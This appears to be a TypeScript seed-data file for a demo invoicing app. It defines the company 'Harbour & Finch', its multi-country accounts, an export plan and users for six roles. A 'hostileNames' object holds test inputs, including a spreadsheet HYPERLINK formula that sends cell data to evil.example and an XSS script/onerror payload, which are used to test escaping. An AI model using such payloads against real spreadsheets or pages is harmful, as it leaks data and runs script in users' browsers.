import type { CompanyRow, PlanRow, RoleId, UserRow } from '../store/records.js';
import { account, accounts, type SeededAccount } from './nordwind-accounts.js';

/** The company of the signed-in demo: accounts in four countries and three currencies, one plan, a user for each role. */
export const harbour: CompanyRow = { id: 'com_finch', displayName: 'Harbour & Finch' };

/** Peppol's registers of VAT numbers. */
const vatSchemes: Readonly<Record<string, string>> = { NL: '9944', DE: '9930' };

const own = (number: string, country: string, name: string, invoices: number, nickname?: string, vatId?: string): SeededAccount =>
  account(number, country, name, invoices, {
    companyId: harbour.id,
    ...(nickname !== undefined && { nickname }),
    // The accounts in Europe have their invoices as XML as well.
    ...(vatId !== undefined && {
      xmlEnrolled: true,
      legal: { vatId, electronicAddress: { scheme: vatSchemes[country] ?? '', id: vatId } },
    }),
  });

const known = (number: string, invoices: number): SeededAccount => {
  const row = accounts.find((candidate) => candidate.number === number);
  if (!row) throw new Error(`No account ${number}`);
  return { ...row, invoices };
};

/** Names that break what is careless: as long as anybody will ever send, the other way round, formulas, markup. */
export const hostileNames = {
  long: 'Harbour & Finch Department of Uncommonly Long Names '.repeat(100).slice(0, 5_000),
  rightToLeft: 'هاربور آند فينش للتجارة \u202E(דפרטמנט)',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"Pay here")',
  script: '<script>alert(1)</script><img src=x onerror=alert(2)>',
} as const;

export const harbourAccounts: readonly SeededAccount[] = [
  known('A1B2C3', 40),
  known('K7Q009', 40),
  own('H2N310', 'NL', 'Harbour & Finch Europe B.V.', 70, 'Rotterdam hub', 'NL861122334B01'),
  own('H5D620', 'DE', 'Harbour & Finch Deutschland GmbH', 50, 'Hamburg', 'DE298765432'),
  own('H8K415', 'KR', '하버앤핀치 코리아', 40),
  own('P1E101', 'US', 'Harbour & Finch Export East', 40),
  own('P1E102', 'US', 'Harbour & Finch Export West', 40),
  own('P1E103', 'US', 'Harbour & Finch Export Gulf', 40),
  own('H9A777', 'US', 'Harbour & Finch Archive', 6),
  own('X0Z999', 'US', hostileNames.long, 0, hostileNames.rightToLeft),
];

export const harbourPlan: PlanRow = {
  id: 'pln_70014',
  number: 'PL-70014',
  companyId: harbour.id,
  name: 'Export plan',
  type: 'export',
  accountIds: ['acc_P1E101', 'acc_P1E102', 'acc_P1E103'],
  currency: 'USD',
  version: 1,
};

const user = (name: string, displayName: string, roleId: RoleId, scope: UserRow['scope'], locale = 'en-US'): UserRow => ({
  id: `usr_finch_${name}`,
  companyId: harbour.id,
  email: `${name}@harbourfinch.example`,
  displayName,
  locale,
  roleId,
  scope,
});

const accountsOf = (...numbers: readonly string[]): UserRow['scope'] => ({
  accountIds: numbers.map((number) => `acc_${number}`),
  planIds: [],
});
const plan = [harbourPlan.id];
/** Everything but the archive, which is the administrator's. */
const everyday = {
  accountIds: ['A1B2C3', 'K7Q009', 'H2N310', 'H5D620', 'H8K415', 'X0Z999'].map((number) => `acc_${number}`),
  planIds: plan,
};

/** One user for each role of the six. */
export const harbourUsers: readonly UserRow[] = [
  user('admin', 'Dana Finch', 'administrator', 'all'),
  user('manager', 'Mika Manager', 'manager', everyday),
  user('payer', 'Parker Payne', 'viewPayDispute', everyday),
  user('viewpay', 'Val Payton', 'viewPay', accountsOf('A1B2C3', 'K7Q009', 'H2N310')),
  user('dispute', 'Dev Disputer', 'viewDispute', accountsOf('A1B2C3', 'H5D620')),
  user('viewer', 'Vic Viewer', 'viewOnly', { accountIds: ['acc_K7Q009'], planIds: plan }),
];
